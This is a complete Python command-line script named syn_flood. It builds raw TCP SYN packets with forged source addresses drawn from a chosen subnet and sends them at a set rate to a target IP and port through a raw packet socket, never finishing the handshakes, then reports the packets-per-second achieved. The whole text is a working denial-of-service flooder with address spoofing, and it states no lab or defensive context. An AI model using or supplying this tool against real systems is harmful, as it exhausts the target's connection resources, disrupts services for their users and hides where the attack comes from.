"""``syn_flood INTERFACE DESTINATION_MAC SOURCE_NET TARGET PORT COUNT RATE``: openings from as many addresses and ports,
none of which is ever followed up. Prints how many a second it came to.
"""

from __future__ import annotations

import ipaddress
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def frame(mac: bytes, source: bytes, source_port: int, target: bytes, port: int) -> bytes:
    tcp = struct.pack("!HHIIBBHHH", source_port, port, 1, 0, 5 << 4, 2, 65_535, 0, 0)
    tcp = tcp[:16] + struct.pack("!H", checksum(source + target + struct.pack("!HH", 6, 20) + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0x4000, 64, 6, 0, source, target)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return mac + bytes((2, 0, 0, 0, 0, 1)) + b"\x08\x00" + ip + tcp


def main() -> None:
    interface, mac, net, target, port, count, rate = sys.argv[1:]
    sources = int(ipaddress.ip_network(net).network_address)
    frames = [
        frame(
            bytes.fromhex(mac),
            (sources + 10 + number % 200).to_bytes(4, "big"),
            1024 + number // 200,
            ipaddress.ip_address(target).packed,
            int(port),
        )
        for number in range(int(count))
    ]
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as sender:
        sender.bind((interface, 0))
        begun = time.monotonic()
        for number, each in enumerate(frames):
            while number > (time.monotonic() - begun) * int(rate):
                pass
            sender.send(each)
        print(int(len(frames) / (time.monotonic() - begun)))


if __name__ == "__main__":
    main()
